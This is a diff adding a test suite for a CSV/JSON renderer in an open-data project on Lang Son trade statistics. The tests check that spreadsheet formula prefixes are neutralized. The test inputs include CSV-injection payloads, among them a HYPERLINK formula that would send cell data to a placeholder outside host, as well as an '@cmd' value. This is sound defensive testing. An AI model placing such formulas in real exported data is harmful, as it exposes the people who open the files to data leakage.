@@ -1,0 +1,63 @@
+import type { Observation } from "@langson-open-data/schemas";
+import { describe, expect, it } from "vitest";
+import { neutralizeFormula, renderCsv, renderJson } from "./render.js";
+
+const base: Observation = {
+  dataset: "lang-son-trade",
+  indicator: "TRADE_TOTAL",
+  measure: "YOY_GROWTH",
+  ref_area: "VN-09",
+  time_period: "2023-Q1",
+  value: "-3.43",
+  unit: "PERCENT",
+  unit_mult: 0,
+  decimals: 2,
+  obs_status: "A",
+  source: "lang-son-2023-q1",
+  origin: "stated",
+  quote: "giảm 3,43%",
+  note: "",
+};
+
+describe("neutralizeFormula (OWASP CSV injection)", () => {
+  it.each([
+    ["=1+1", "'=1+1"],
+    ['=HYPERLINK("http://example.org/?"&A1;"640")', `'=HYPERLINK("http://example.org/?"&A1;"640")`],
+    ["+1+1", "'+1+1"],
+    ["-1+1", "'-1+1"],
+    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+    [" =1+1", "' =1+1"],
+    ["\u00A0@SUM(A1)", "'\u00A0@SUM(A1)"],
+    ["- Tổng kim ngạch 640 triệu USD", "'- Tổng kim ngạch 640 triệu USD"],
+  ])("%j → %j", (cell, expected) => {
+    expect(neutralizeFormula(cell)).toBe(expected);
+  });
+
+  it.each(["tăng 31,96% so cùng kỳ", "640 triệu USD", "a=b", "", "'=already text"])("leaves %j alone", (cell) => {
+    expect(neutralizeFormula(cell)).toBe(cell);
+  });
+});
+
+describe("renderCsv", () => {
+  it("neutralizes text cells, keeps numbers numbers, quotes cells a spreadsheet could split", () => {
+    const csv = renderCsv([
+      { ...base, quote: "=1+1", note: "@cmd" },
+      { ...base, quote: "giảm 3,43%; =1+1", note: "a\t=1+1" },
+    ]);
+    const [, first, second] = csv.split("\n");
+    expect(first).toBe("lang-son-trade,TRADE_TOTAL,YOY_GROWTH,VN-09,2023-Q1,-3.43,PERCENT,0,2,A,lang-son-2023-q1,stated,'=1+1,'@cmd");
+    expect(second).toBe('lang-son-trade,TRADE_TOTAL,YOY_GROWTH,VN-09,2023-Q1,-3.43,PERCENT,0,2,A,lang-son-2023-q1,stated,"giảm 3,43%; =1+1","a\t=1+1"');
+  });
+
+  it("quotes a cell holding a lone CR or LF, which csv-stringify alone would leave bare and a reader would split", () => {
+    const [, first, second] = renderCsv([{ ...base, quote: "a\rb" }, { ...base, quote: "c\nd" }]).split(/\n(?=lang-son|$)/);
+    expect(first).toMatch(/,"a\rb",$/);
+    expect(second).toMatch(/,"c\nd",$/);
+  });
+
+  it("data.json keeps the text as stated: JSON is not a spreadsheet", () => {
+    expect(JSON.parse(renderJson([{ ...base, quote: "=1+1" }]))[0]).toMatchObject({ quote: "=1+1", value: "-3.43" });
+  });
+});
